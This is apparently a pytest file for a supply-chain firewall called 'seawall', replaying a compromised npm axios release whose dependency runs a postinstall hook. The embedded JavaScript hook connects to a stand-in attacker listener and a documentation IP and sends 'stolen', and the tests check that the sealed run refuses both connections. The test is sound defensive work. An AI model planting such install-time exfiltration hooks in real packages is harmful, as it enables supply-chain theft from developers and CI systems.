"""The axios day under `seawall run`: real npm runs the real (inert) hook, and sealed it reaches nobody.

The registry is that of 31 March 2026, 25 minutes in; the firewall, a process of its own, only observes. So npm
takes axios 1.14.1, and `plain-crypto-js` runs its hook, which asks two places: a listener on this machine that
stands for the attacker's, and a public address (of RFC 5737: nobody's). What it got it writes to a file.
"""

import json
import os
import socket
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from simulators.past import at, serving
from simulators.past_npm import PastNpm, axios_day
from simulators.running_gate import Running, running
from simulators.seal import needs_seal

CLIENTS = Path(os.environ.get("SEAWALL_CLIENTS", Path(__file__).parents[1] / ".clients"))
BIN = CLIENTS / "npm" / "node_modules" / ".bin"
LIVE = at("2026-03-31T00:25:00Z")
FAR = ("203.0.113.66", 8000)
BAD = {"pkg:npm/axios@1.14.1", "pkg:npm/plain-crypto-js@4.2.1"}
pytestmark = pytest.mark.skipif(not (BIN / "npm").exists(), reason=f"no npm in {CLIENTS}: make clients")

HOOK = """
const net = require("net"), fs = require("fs"), places = JSON.parse(process.env.npm_config_places), got = {};
for (const [host, port] of places) {
  const one = net.connect({host, port, timeout: 500});
  const said = (word) => {
    if (got[host]) return;
    got[host] = word;
    one.destroy();
    if (Object.keys(got).length === places.length) fs.writeFileSync(process.env.npm_config_said, JSON.stringify(got));
  };
  one.on("connect", () => one.end("stolen", () => said("connected")));
  one.on("timeout", () => said("timeout"));
  one.on("error", (error) => said(error.code));
}
"""


@pytest.fixture(scope="module")
def gate(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Running]:
    with serving(PastNpm(LIVE)) as past:
        axios_day(past)
        hook = past.publish(
            "plain-crypto-js", "4.2.1", at("2026-03-30T23:59:12Z"), by="stranger",
            scripts={"postinstall": "node setup.js"}, files={"setup.js": HOOK.encode()},
        )  # fmt: skip
        past.releases["plain-crypto-js"] = [*past.releases["plain-crypto-js"][:1], hook]
        with running(tmp_path_factory.mktemp("gate"), {"npm": past.npm_url}, mode="observe") as server:
            yield server


@dataclass(frozen=True)
class Day:
    """What the hook got at each place, what the attacker's listener heard, what was said, and the ledger."""

    hook: dict[str, str]
    heard: bytes
    said: str
    events: list[dict[str, Any]]
    port: int

    def told(self, action: str, delivery: str = "") -> list[dict[str, Any]]:
        """Entries of one kind."""
        return [e for e in self.events if (e["action"], e.get("delivery", "")) == (action, delivery)]


def install(gate: Running, place: Path, name: str, *words: str) -> Day:
    """`npm install axios` under `seawall run`, as the CI job `name`."""
    with socket.create_server(("127.0.0.1", 0)) as attacker:
        port = attacker.getsockname()[1]
        done = npm(gate, place, port, name, *words)
        attacker.setblocking(False)
        heard = heard_by(attacker)
    shown = gate.command("ledger", "show", "--run", f"acme/app/{name}", "--format", "jsonl")
    events = [json.loads(line) for line in shown.stdout.splitlines()]
    return Day(json.loads((place / "said.json").read_text()), heard, done.stderr, events, port)


def heard_by(attacker: socket.socket) -> bytes:
    try:
        one, _ = attacker.accept()
    except BlockingIOError:
        return b""
    with one:
        one.settimeout(5)
        return one.recv(100) or b"nothing"


def npm(gate: Running, place: Path, port: int, name: str, *words: str) -> "subprocess.CompletedProcess[str]":
    tree = place / "tree"
    tree.mkdir(parents=True)
    (tree / "package.json").write_text('{"name": "project", "version": "1.0.0", "license": "MIT"}')
    command = ("npm", "install", "--no-audit", "--no-fund", "axios")
    done = subprocess.run(
        [sys.executable, "-m", "seawall", "run", "--firewall", gate.url, *words, "--", *command],
        cwd=tree,
        env={
            "PATH": f"{BIN}:{CLIENTS / 'bin'}:/usr/bin:/bin",
            "HOME": str(place),
            "SEAWALL_DATA": str(place / "data"),
            "CI_JOB_ID": name,
            "CI_PROJECT_PATH": "acme/app",
            "npm_config_places": json.dumps([["127.0.0.1", port], FAR]),
            "npm_config_said": str(place / "said.json"),
            "npm_config_update_notifier": "false",
        },
        stdin=subprocess.DEVNULL,
        capture_output=True,
        text=True,
        timeout=100,
        check=False,
    )
    assert done.returncode == 0, done.stderr
    assert (tree / "node_modules" / "axios" / "package.json").exists()
    return done


@needs_seal
def test_sealed_the_hook_runs_and_reaches_nobody(gate: Running, tmp_path: Path) -> None:
    day = install(gate, tmp_path, "1", "--sealed")
    assert day.hook == {"127.0.0.1": "ECONNREFUSED", FAR[0]: "ECONNREFUSED"}
    assert day.heard == b""
    for host, port in (FAR, ("127.0.0.1", day.port)):
        assert f"refused  a connection to {host} port {port} (tcp)\n" in day.said
    assert "not in the ledger" not in day.said
    refused = day.told("connect", "refused")
    assert {(e["names"]["place"], e["subject"], e["outcome"]) for e in refused} == {
        (f"{FAR[0]} {FAR[1]}", "tcp", "deny"),
        (f"127.0.0.1 {day.port}", "tcp", "deny"),
    }
    # Nothing was blocked: who took what, and what would have been said of it, is there too.
    took = {e["asset"]: (e["outcome"], e["mode"]) for e in day.told("fetch", "served")}
    assert {took.get(asset) for asset in BAD} == {("deny", "observe")}
    assert "took     axios 1.14.1\n" in day.said
    assert [e["subject"] for e in day.told("run")] == ["began-sealed", "ended-0"]
    text = gate.command("ledger", "show", "--run", "acme/app/1").stdout
    assert FAR[0] in text


def test_without_the_seal_the_same_hook_reaches_the_attacker(gate: Running, tmp_path: Path) -> None:
    day = install(gate, tmp_path, "2")
    assert day.hook["127.0.0.1"] == "connected"
    assert day.heard == b"stolen"
    assert "refused  " not in day.said
    assert day.told("connect", "refused") == []
    assert [e["subject"] for e in day.told("run")] == ["began", "ended-0"]
